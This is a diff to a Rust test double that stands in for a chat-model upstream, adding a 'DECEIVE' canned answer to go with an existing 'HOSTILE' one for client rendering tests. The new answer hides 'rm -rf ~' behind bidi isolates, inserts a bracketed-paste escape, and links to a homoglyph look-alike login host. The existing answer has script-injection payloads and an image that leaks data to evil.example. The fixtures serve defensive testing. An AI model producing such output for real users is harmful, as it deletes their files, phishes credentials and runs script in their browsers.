@@ -8,6 +8,7 @@
 //! | `NOTCOVERED` | streams "The documentation does not seem to cover this." (the model declining) |
 //! | `CITECHECK` | streams two sentences citing [1], the e2e site's install page: one from it, one not (the citation check's marker) |
 //! | `HOSTILE` | streams hostile Markdown (script tags, `javascript:` links, foreign images, an unclosed fence, `[99]`) |
+//! | `DECEIVE` | streams Markdown that shows one thing and copies or links another (bidi isolates and `ESC[201~` in code, a look-alike host) |
 //! | `ENDLESS` | 1 KB chunks without a pause for 60 s (an upstream that ignores `max_tokens`; the client leaves first) |
 //! | `SLOW` | 200 chunks, 100 ms apart (Stop / disconnect tests) |
 //! | `ERROR500` | HTTP 500 with an OpenAI error body |
@@ -69,6 +70,13 @@ and run the install script [1]. The script copies the frob binary into /usr/loca
 pub const HOSTILE_ANSWER: &str = "Here is the answer [1].\n\n<img src=x onerror=\"window.__pwned=1\">\n\n\
 <script>window.__pwned=1</script>\n\n[click](javascript:window.__pwned=1) and [x](&#106;avascript:window.__pwned=1)\n\n\
 ![i](https://evil.example/leak?q=secret)\n\nSee also [99].\n\n```js\nwindow.__pwned = 1;\n";
+
+/// The Markdown streamed for `DECEIVE`: code that reads in another order than it copies (bidi
+/// isolates), a control sequence that ends a terminal's bracketed paste, and links to a host
+/// spelt with a Cyrillic `о` so it reads as `docs.example.com`.
+pub const DECEIVE_ANSWER: &str = "Run this [1]:\n\n```sh\nrm -rf ~ \u{2067}# \u{2066}echo safe\u{2069}\u{2069}\n\
+echo done\u{1b}[201~\n```\n\nThen sign in at [https://d\u{43e}cs.example.com/login](https://d\u{43e}cs.example.com/login) \
+or on [the docs site](https://d\u{43e}cs.example.com/).\n";
 
 /// One request the double received, as listed by `GET /_requests`.
 #[derive(Debug, Clone, serde::Serialize)]
@@ -445,6 +453,7 @@ async fn chat(
         ("NOTCOVERED", NOT_COVERED_ANSWER),
         ("CITECHECK", CITECHECK_ANSWER),
         ("HOSTILE", HOSTILE_ANSWER),
+        ("DECEIVE", DECEIVE_ANSWER),
     ]
     .iter()
     .find(|(keyword, _)| last_user.contains(keyword))
